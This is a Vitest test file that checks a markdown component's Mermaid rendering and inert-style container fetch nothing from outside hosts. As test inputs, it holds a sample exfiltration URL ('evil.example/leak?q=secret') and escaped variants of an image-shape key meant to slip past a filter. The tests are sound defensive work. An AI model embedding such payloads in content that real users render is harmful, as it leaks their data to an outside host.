// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { withInertStyles } from '../../../src/components/markdown/inert-styles'
import { renderMermaid } from '../../../src/components/markdown/mermaid-render'

const SVG = 'http://www.w3.org/2000/svg'
const XLINK = 'http://www.w3.org/1999/xlink'

// Every URL the page asked to load while `run` ran: an image's src (a detached `new Image()` fetches too) and the
// URL attributes of any element.
async function requestsOf(run: () => Promise<unknown>): Promise<string[]> {
  const urls: string[] = []
  const source = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src') as PropertyDescriptor
  Object.defineProperty(HTMLImageElement.prototype, 'src', {
    configurable: true,
    get: source.get,
    set(this: HTMLImageElement, value: string) {
      urls.push(String(value))
      source.set?.call(this, value)
    },
  })
  const observer = new MutationObserver((records) => {
    for (const record of records) {
      const value = (record.target as Element).getAttribute(record.attributeName ?? '')
      if (value !== null && /^(?:xlink:)?href$|^src$/i.test(record.attributeName ?? '')) urls.push(value)
    }
  })
  observer.observe(document.body, { attributes: true, subtree: true })
  try {
    await run()
    observer.takeRecords().forEach((record) => urls.push((record.target as Element).getAttribute(record.attributeName ?? '') ?? ''))
  } finally {
    observer.disconnect()
    Object.defineProperty(HTMLImageElement.prototype, 'src', source)
  }
  return urls.filter((url) => url.includes('evil.example'))
}

describe('Mermaid requests nothing from any host', () => {
  for (const key of ['img', '"img"', "'img'", '"im\\x67"', "'i\\u006dg'"]) {
    it(`leaves an image shape keyed ${key} as code`, async () => {
      let svg: string | null = ''
      const urls = await requestsOf(async () => {
        svg = await renderMermaid(`flowchart TD\n  A@{ ${key}: "https://evil.example/leak?q=secret", label: "x" }`)
      })
      expect(urls).toEqual([])
      expect(svg).toBeNull()
    })
  }

  it('keeps the URL an element inside the layout container would load inert, through either setter', async () => {
    let markup = ''
    const urls = await requestsOf(() =>
      withInertStyles('m-1', async (container) => {
        const image = document.createElementNS(SVG, 'image')
        const use = document.createElementNS(SVG, 'use')
        const link = document.createElementNS(SVG, 'a')
        container.append(image, use, link)
        image.setAttribute('href', 'https://evil.example/a')
        image.setAttributeNS(XLINK, 'xlink:href', 'https://evil.example/b')
        use.setAttribute('href', '#local')
        link.setAttributeNS(XLINK, 'xlink:href', 'https://example.org/followed-on-click')
        const inline = document.createElementNS(SVG, 'image')
        container.append(inline)
        inline.setAttribute('href', 'data:image/png;base64,AAAA')
        markup = container.innerHTML
        return markup
      }),
    )
    expect(urls).toEqual([])
    expect(markup).toContain('<image data-as-inert-url="https://evil.example/b">')
    expect(markup).not.toMatch(/href="https:\/\/evil/)
    expect(markup).toContain('href="#local"')
    expect(markup).toContain('xlink:href="https://example.org/followed-on-click"')
    expect(markup).toContain('href="data:image/png;base64,AAAA"')
  })

  it('leaves elements outside the container alone', async () => {
    await withInertStyles('m-2', async () => {
      const image = document.createElement('img')
      image.setAttribute('src', 'https://example.org/app-image.png')
      expect(image.getAttribute('src')).toBe('https://example.org/app-image.png')
      return ''
    })
  })
})
